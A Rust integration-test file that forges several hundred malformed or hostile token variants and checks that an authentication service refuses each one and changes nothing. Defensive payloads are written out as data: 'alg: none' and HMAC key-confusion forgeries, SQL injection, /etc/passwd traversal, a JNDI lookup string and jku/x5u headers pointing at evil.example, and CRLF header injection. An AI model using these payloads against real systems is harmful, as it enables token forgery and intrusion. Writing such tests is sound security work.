//! The mutants that are made by hand, by class.

use admin::doctor::forge::copies;
use base64::{
    Engine,
    engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
};
use jsonwebtoken::{Algorithm, EncodingKey};
use reqwest::StatusCode;
use serde_json::{Value, json};

use super::{Kind, Mutant, Scene};
use tests::{
    forge::{self, P256_ORDER},
    opaque::APP,
};

/// Collects the mutants of one kind.
struct Maker<'s> {
    scene: &'s Scene,
    kind: Kind,
    header: Value,
    claims: Value,
    made: Vec<Mutant>,
}

fn encoded(part: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(part)
}

/// Returns an object with one changed member; `null` removes it.
fn with(object: &Value, name: &str, value: Value) -> String {
    let mut object = object.clone();
    let members = object.as_object_mut().unwrap();
    if value.is_null() {
        members.remove(name);
    } else {
        members.insert(name.to_owned(), value);
    }
    object.to_string()
}

/// Returns a signature as ASN.1 has it (RFC 3279 §2.2.3).
fn der(signature: &[u8]) -> Vec<u8> {
    let integer = |number: &[u8]| {
        let zeros = number.iter().take_while(|byte| **byte == 0).count();
        let mut number = number[zeros..].to_vec();
        if number[0] >= 0x80 {
            number.insert(0, 0);
        }
        [&[2, u8::try_from(number.len()).unwrap()], &*number].concat()
    };
    let body = [integer(&signature[..32]), integer(&signature[32..])].concat();
    [&[0x30, u8::try_from(body.len()).unwrap()], &*body].concat()
}

impl Maker<'_> {
    fn add(&mut self, class: &'static str, text: impl Into<String>) {
        let mut text = text.into();
        if self.kind == Kind::OpaqueToken && text.starts_with(APP) {
            // The stand-in takes any text behind the application for a person and scopes.
            text.insert(0, 'x');
        }
        self.made.push(Mutant {
            kind: self.kind,
            class,
            text,
        });
    }

    /// Adds a token of this header and these claims, signed with the right key.
    fn signed(&mut self, class: &'static str, header: &str, claims: &str) {
        let token = self.scene.sign(self.kind, header, claims);
        self.add(class, token);
    }

    fn with_header(&mut self, class: &'static str, name: &str, value: Value) {
        let (header, claims) = (with(&self.header, name, value), self.claims.to_string());
        self.signed(class, &header, &claims);
    }

    fn with_claim(&mut self, class: &'static str, name: &str, value: Value) {
        let (header, claims) = (self.header.to_string(), with(&self.claims, name, value));
        self.signed(class, &header, &claims);
    }

    fn good(&self) -> String {
        self.scene.good(self.kind)
    }

    /// Adds mutants of any text.
    fn spellings(&mut self) {
        let good = self.good();
        let upper = good.to_uppercase();
        let lower = good.to_lowercase();
        let reversed: String = good.chars().rev().collect();
        let other_key = char::from(good.as_bytes()[0] ^ 1);
        for (class, text) in [
            ("empty", String::new()),
            ("padding", format!("{good}=")),
            ("padding", format!("{good}==")),
            ("white space", format!("{good}\t")),
            ("white space", format!("{} {}", &good[..5], &good[5..])),
            ("concatenation", format!("{good}{good}")),
            ("concatenation", format!("{good},{good}")),
            ("concatenation", format!("{good} {good}")),
            ("concatenation", format!("{good}.")),
            ("concatenation", format!(".{good}")),
            ("prefix", format!("Bearer {good}")),
            ("prefix", format!("\"{good}\"")),
            ("prefix", format!("'{good}'")),
            ("prefix", format!("{other_key}{}", &good[1..])),
            ("encoding", STANDARD.encode(&good)),
            ("encoding", encoded(&good)),
            ("encoding", good.replace(['.', '_', '-', '~'], "%2E")),
            ("truncated", good[..good.len() - 1].to_owned()),
            ("truncated", good[1..].to_owned()),
            ("truncated", good[..good.len() / 2].to_owned()),
            (
                "case",
                if upper == good {
                    format!("{good}a")
                } else {
                    upper
                },
            ),
            (
                "case",
                if lower == good {
                    format!("{good}A")
                } else {
                    lower
                },
            ),
            ("reversed", reversed),
            ("unicode", format!("{good}\u{e9}")),
            (
                "unicode",
                good.replacen(|c: char| c.is_ascii_lowercase(), "\u{430}", 1),
            ),
            ("unicode", format!("\u{feff}{good}")),
            ("unicode", format!("{good}\u{200b}")),
            ("size", good.repeat(20)),
            ("injection", format!("{good}' OR '1'='1")),
            ("injection", format!("{good}&client_id=nextjs")),
            ("injection", "../../../../etc/passwd".to_owned()),
            ("injection", "${jndi:ldap://evil.example/a}".to_owned()),
            ("null", "null".to_owned()),
            ("null", "undefined".to_owned()),
            ("null", "0".to_owned()),
        ] {
            self.add(class, text);
        }
    }

    fn algorithms(&mut self) {
        for alg in [
            "none", "None", "NONE", "nOnE", "", "es256", "ES256 ", "ES256K", "ES384", "ES512",
            "RS256", "PS256", "EdDSA", "HS256", "HS512", "RSA-OAEP", "dir",
        ] {
            self.with_header("algorithm", "alg", json!(alg));
        }
        for alg in [
            Value::Null,
            json!(256),
            json!(["ES256"]),
            json!({ "alg": "ES256" }),
            json!(true),
        ] {
            self.with_header("algorithm", "alg", alg);
        }
        let unsigned =
            |header: String, claims: &Value| forge::unsigned(&header, &claims.to_string());
        let none = unsigned(with(&self.header, "alg", json!("none")), &self.claims);
        self.add("algorithm", format!("{none}."));
        self.add("algorithm", format!("{none}.AA"));
        // HMAC under what an attacker knows.
        let header = with(&self.header, "alg", json!("HS256"));
        let claims = self.claims.to_string();
        let jwk = self.scene.forge.jwk.to_string();
        for secret in [
            "",
            "one",
            "secret",
            &jwk,
            &self.scene.provider.jwk.to_string(),
        ] {
            let key = EncodingKey::from_secret(secret.as_bytes());
            let token = forge::sign(&header, &claims, &key, Algorithm::HS256);
            self.add("key confusion", token);
        }
    }

    fn headers(&mut self) {
        for (name, value) in [
            ("crit", json!(["exp"])),
            ("crit", json!([])),
            ("b64", json!(false)),
            ("jku", json!("https://evil.example/keys")),
            ("jwk", self.scene.stranger.jwk.clone()),
            ("x5u", json!("https://evil.example/cert")),
            ("x5c", json!(["MII"])),
            ("zip", json!("DEF")),
            ("enc", json!("A256GCM")),
            ("typ", json!("JWE")),
            ("typ", json!("at+jwt2")),
            ("typ", json!("")),
            ("typ", json!(7)),
            ("kid", json!("two")),
            ("kid", json!("")),
            ("kid", json!("ONE")),
            ("kid", json!("one\u{0}")),
            ("kid", json!("../../../dev/null")),
            ("kid", json!("' UNION SELECT 'a")),
            ("kid", json!("o\u{43d}e")),
            ("kid", json!("k".repeat(1000))),
            ("kid", json!(1)),
            ("kid", json!(["one"])),
            ("kid", json!({ "kid": "one" })),
        ] {
            self.with_header("header", name, value);
        }
        let (header, claims) = (self.header.to_string(), self.claims.to_string());
        for odd in [
            "[]".to_owned(),
            "{}".to_owned(),
            "null".to_owned(),
            format!(" {header}"),
            format!("\u{feff}{header}"),
            format!("{header}x"),
            format!("[{header}]"),
            header.replacen('{', r#"{"alg":"ES256","#, 1),
            header.replacen('{', r#"{"kid":"one","#, 1),
            header.replacen('{', r#"{"\u0061lg":"ES256","#, 1),
            header.replacen(
                '{',
                &format!(r#"{{"a":{}1{},"#, "[".repeat(64), "]".repeat(64)),
                1,
            ),
        ] {
            self.signed("header", &odd, &claims);
        }
    }

    fn claims(&mut self) {
        let required: &[&str] = match self.kind {
            Kind::AccessToken => &[
                "iss",
                "aud",
                "sub",
                "client_id",
                "iat",
                "exp",
                "jti",
                "sid",
                "session_version",
            ],
            Kind::IdToken => &["iss", "aud", "sub", "iat", "exp"],
            _ => &["iss", "aud", "sub", "exp", "jti"],
        };
        for name in required {
            let other = if self.claims[name].is_number() {
                json!("a")
            } else {
                json!(7)
            };
            for value in [Value::Null, other, json!({ "a": 1 }), json!(true)] {
                self.with_claim("claim", name, value);
            }
        }
        for (name, value) in [
            ("iss", "https://evil.example"),
            ("iss", ""),
            ("iss", "http://localhost:9000/"),
            ("iss", "HTTP://LOCALHOST:9000"),
            ("aud", "https://evil.example"),
            ("aud", ""),
            ("aud", "http://localhost:9000\u{0}"),
        ] {
            self.with_claim("claim", name, json!(value));
        }
        self.with_claim("claim", "aud", json!([]));
        self.with_claim("claim", "aud", json!(["https://evil.example"]));
        self.with_claim("claim", "aud", json!([[self.claims["aud"]]]));
        if self.kind != Kind::AccessToken {
            self.with_claim("claim", "sub", json!(""));
            self.with_claim("claim", "sub", json!("s".repeat(256)));
            self.with_claim("unicode", "sub", json!("us\u{e9}r"));
            self.with_claim("unicode", "sub", json!("l\u{430}mbda"));
        }
        let (header, claims) = (self.header.to_string(), self.claims.to_string());
        for name in required {
            let value = &self.claims[name];
            let first = claims.replacen('{', &format!(r#"{{"{name}":{value},"#), 1);
            self.signed("duplicate", &header, &first);
        }
        let escaped = claims.replacen('{', r#"{"\u0065xp":1,"#, 1);
        self.signed("duplicate", &header, &escaped);
    }

    fn payloads(&mut self) {
        let (header, claims) = (self.header.to_string(), self.claims.to_string());
        for odd in [
            "".to_owned(),
            "[]".to_owned(),
            "{}".to_owned(),
            "null".to_owned(),
            "\"a\"".to_owned(),
            format!("[{claims}]"),
            format!(" {claims}"),
            format!("{claims}{claims}"),
            format!("\u{feff}{claims}"),
            claims.replacen('{', r#"{"a":"\ud800","#, 1),
            claims.replacen('{', r#"{"a":NaN,"#, 1),
            claims.replacen('{', "{'a':1,", 1),
            claims.replacen('{', "{/* */", 1),
            claims.replacen('}', ",}", 1),
        ] {
            self.signed("payload", &header, &odd);
        }
        let nested = format!(r#"{{"a":{}1{},"#, "[".repeat(64), "]".repeat(64));
        self.signed("nesting", &header, &claims.replacen('{', &nested, 1));
        let many: Vec<String> = (0..200).map(|n| format!(r#""m{n}":1"#)).collect();
        let many = format!("{{{},", many.join(","));
        self.signed("size", &header, &claims.replacen('{', &many, 1));
        if self.kind == Kind::AccessToken {
            let long = format!(r#"{{"a":"{}","#, "a".repeat(8 * 1024));
            self.signed("size", &header, &claims.replacen('{', &long, 1));
        }
        // Bytes that are no UTF-8.
        for bytes in [
            &b"{\"a\":\"\xff\"}"[..],
            b"{\"a\":\"\xc0\xaf\"}",
            b"\xff\xfe{\x00}\x00",
        ] {
            let [header, bytes] = [encoded(&header), encoded(bytes)];
            self.add("unicode", format!("{header}.{bytes}.{}", encoded([1; 64])));
        }
    }

    fn times(&mut self) {
        let now = self.scene.service.time.now();
        // Expiry has no leeway for access tokens, and a minute for the others. The clock goes on meanwhile.
        let leeway = if self.kind == Kind::AccessToken {
            0
        } else {
            60
        };
        let future = if self.kind == Kind::AccessToken {
            300
        } else {
            360
        };
        let mut edges = vec![
            ("exp", json!(now - leeway)),
            ("exp", json!(0)),
            ("exp", json!(-1)),
            ("exp", json!((now + 60).to_string())),
            ("exp", json!([now + 60])),
            ("iat", json!(now + future)),
            ("iat", json!(-1)),
            ("iat", json!("now")),
            ("nbf", json!(now + future)),
            ("nbf", json!("now")),
        ];
        if self.kind != Kind::IdToken {
            edges.push(("exp", json!(u64::MAX)));
            edges.push(("exp", json!(now + 2 * 3600)));
        } else {
            edges.push(("iat", json!(now - 301)));
            edges.push(("iat", json!(0)));
        }
        if self.kind == Kind::Vouched {
            edges.push(("iat", json!(now - 300)));
        }
        for (name, value) in edges {
            self.with_claim("time", name, value);
        }
        let (header, claims) = (self.header.to_string(), self.claims.to_string());
        let exp = self.claims["exp"].to_string();
        for odd in ["1e400", "Infinity", "0x7fffffff", "+1", "01"] {
            let claims = claims.replacen(&format!("\"exp\":{exp}"), &format!("\"exp\":{odd}"), 1);
            self.signed("time", &header, &claims);
        }
    }

    fn signatures(&mut self) {
        let good = self.good();
        let parts: Vec<&str> = good.split('.').collect();
        let [header, payload, signature] = parts[..] else {
            unreachable!()
        };
        let bytes = URL_SAFE_NO_PAD.decode(signature).unwrap();
        let (r, s) = bytes.split_at(32);
        let zero = [0; 32];
        for signature in [
            der(&bytes),
            [&P256_ORDER[..], s].concat(),
            [r, &P256_ORDER[..]].concat(),
            [&zero[..31], &[1], &zero[..31], &[1]].concat(),
        ] {
            self.add(
                "signature",
                format!("{header}.{payload}.{}", encoded(signature)),
            );
        }
        // The copies that need no key, which `cambio-admin doctor` sends to a deployment.
        for (class, text) in copies(&good) {
            self.add(class, text);
        }
    }

    /// Adds valid tokens and secrets of other kinds, and this kind's claims under the key of another.
    fn confusion(&mut self) {
        for other in Kind::ALL {
            // A JWT of the type `jwt` may be an ID token as well.
            let is_valid = self.kind == Kind::Vouched && other == Kind::IdToken;
            if other != self.kind && !is_valid {
                let token = self.scene.good(other);
                self.add("another kind", token);
            }
        }
        if !Kind::JWTS.contains(&self.kind) {
            return;
        }
        let (header, claims) = (self.header.to_string(), self.claims.to_string());
        for other in Kind::JWTS {
            if other != self.kind {
                let token = self.scene.sign(other, &header, &claims);
                self.add("key confusion", token);
                // Its claims and header under the right key.
                let (other_header, other_claims) = self.scene.parts(other);
                self.signed("another kind", &header, &other_claims.to_string());
                let other_header = with(&other_header, "kid", self.header["kid"].clone());
                if other_header != header {
                    self.signed("another kind", &other_header, &other_claims.to_string());
                }
            }
        }
        let stranger = &self.scene.stranger.private;
        let token = forge::sign(&header, &claims, stranger, Algorithm::ES256);
        self.add("key confusion", token);
        let with_key = with(&self.header, "jwk", self.scene.stranger.jwk.clone());
        let token = forge::sign(&with_key, &claims, stranger, Algorithm::ES256);
        self.add("key confusion", token);
    }

    /// Adds refresh tokens with one changed field and a new checksum.
    fn fields(&mut self) {
        let good = self.good();
        let bytes = URL_SAFE_NO_PAD.decode(&good[4..]).unwrap();
        let payload = &bytes[..bytes.len() - 4];
        let token = |payload: &[u8]| {
            let checksum = crc32fast::hash(payload).to_be_bytes();
            format!("cbr_{}", encoded([payload, &checksum].concat()))
        };
        assert_eq!(token(payload), good);
        // Version, user, session, generation, family and secret.
        for at in [0, 1, 7, 9, 16, 17, 25, 32, 33, 36, 37, 45, 52, 53, 70, 84] {
            let mut payload = payload.to_vec();
            payload[at] ^= 1;
            self.add("field", token(&payload));
        }
        for (class, text) in [
            ("field", token(&payload[..payload.len() - 1])),
            ("field", token(&[payload, &[0]].concat())),
            ("field", token(&[])),
            ("checksum", good.replace("cbr_", "")),
            ("checksum", good.replace("cbr_", "cbr_cbr_")),
            ("checksum", good.replace("cbr_", "CBR_")),
            ("checksum", format!("cbr_{}", encoded(payload))),
            (
                "checksum",
                format!("cbr_{}", encoded([payload, &[0; 4]].concat())),
            ),
        ] {
            self.add(class, text);
        }
    }

    fn opaque(&mut self) {
        let good = self.good();
        if self.kind == Kind::OpaqueToken {
            for application in ["foreign-app", "our-app2", "OUR-APP", ""] {
                self.add("another application", good.replacen(APP, application, 1));
            }
        } else {
            for prefix in ["ghp_", "ghs_", "ghr_", "github_pat_", ""] {
                self.add("another prefix", good.replacen("gho_", prefix, 1));
            }
        }
        for text in [
            format!("{good}\r\nX-Evil: 1"),
            format!("{good}/../../user"),
            format!("{good}?a=b#c"),
        ] {
            self.add("injection", text);
        }
    }
}

/// Returns the mutants of a kind.
fn made(scene: &Scene, kind: Kind) -> Vec<Mutant> {
    let is_jwt = Kind::JWTS.contains(&kind);
    let (header, claims) = if is_jwt {
        scene.parts(kind)
    } else {
        Default::default()
    };
    let mut maker = Maker {
        scene,
        kind,
        header,
        claims,
        made: Vec::new(),
    };
    maker.spellings();
    maker.confusion();
    if is_jwt {
        maker.algorithms();
        maker.headers();
        maker.claims();
        maker.payloads();
        maker.times();
        maker.signatures();
    }
    match kind {
        Kind::RefreshToken => maker.fields(),
        Kind::GitHubToken | Kind::OpaqueToken => maker.opaque(),
        _ => {}
    }
    maker.made
}

#[tokio::test]
async fn t20_each_made_mutant_of_a_token_is_refused_and_changes_nothing() {
    let scene = Scene::start().await;
    let mut count = 0;

    for kind in Kind::ALL {
        for mutant in made(&scene, kind) {
            scene.refuses(&mutant).await;
            count += 1;
        }
    }

    assert!(count >= 400, "{count} mutants");
}

/// The other signature is valid as well, so it is the same token.
#[tokio::test]
async fn t30_the_other_spelling_of_a_signature_opens_nothing_more() {
    let scene = Scene::start().await;
    for kind in Kind::JWTS {
        let good = scene.good(kind);
        let (status, first) = scene.send(kind, &good).await;
        assert_eq!(status, StatusCode::OK, "{kind:?}: {first}");
        let before = scene.tables();

        let (status, again) = scene.send(kind, &forge::other_spelling(&good)).await;

        if kind == Kind::AccessToken {
            assert_eq!((status, again), (StatusCode::OK, first));
        } else {
            let (refused, code) = kind.error();
            assert_eq!((status, again["error"].as_str()), (refused, Some(code)));
        }
        assert!(scene.tables() == before, "{kind:?} changed an item");
    }
}
